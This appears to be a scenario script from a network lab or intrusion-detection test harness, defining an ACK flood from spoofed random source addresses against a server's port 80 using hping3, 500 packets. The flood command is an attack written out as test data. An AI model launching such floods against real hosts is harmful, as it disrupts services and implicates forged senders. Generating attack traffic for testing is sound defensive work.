# shellcheck shell=bash
# about: ACK without a connection, forged senders (hping3)
# type: attack
# kind: ack_flood
# target: server
# source: attacker
# tools: hping3
# packets: 500
play() {
	flood attacker "$SERVER_IP" -A -p 80 --rand-source
}
